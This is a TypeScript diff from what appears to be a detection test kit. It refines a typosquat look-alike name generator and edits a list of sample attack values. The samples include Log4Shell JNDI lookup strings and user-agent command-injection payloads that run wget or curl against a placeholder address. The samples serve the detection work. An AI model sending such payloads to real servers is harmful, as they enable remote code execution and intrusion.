@@ -1,3 +1,4 @@
+import { ordinaryWords } from '../domain/ordinary-words.ts'
 import type { CatalogueId } from '../kit/index.ts'
 
 /** An observable that is not a file, as an attack would write it. */
@@ -41,7 +42,13 @@ const changed = (name: string, change: (label: string) => string) => {
 
 /** Four ways in which names are mistyped or dressed up, of each brand. */
 export const lookAlikes = {
-  missing: (name: string) => changed(name, (label) => label.slice(0, -2) + label.slice(-1)),
+  missing: (name: string) =>
+    changed(name, (label) => {
+      const without = (at: number) => label.slice(0, at) + label.slice(at + 1)
+      const last = without(label.length - 2)
+      // `revolt` is a word, not a look-alike.
+      return ordinaryWords.has(last) ? without(1) : last
+    }),
   doubled: (name: string) => changed(name, (label) => label.slice(0, 2) + label.slice(1)),
   swapped: (name: string) =>
     changed(name, (label) =>
@@ -143,7 +150,7 @@ export const valueSamples = (): ValueSample[] => [
   ),
   ...userAgent(
     'user-agent.log4shell',
-    '${${::-j}ndi:ldap://a.example/x}',
+    `\${\${::-j}ndi:ldap://a.example/x}`,
     '%24%7Bjndi:ldap://a.example}',
   ),
   ...userAgent('user-agent.command', 'x; wget http://192.0.2.1/a.sh', '$(curl 192.0.2.1)'),
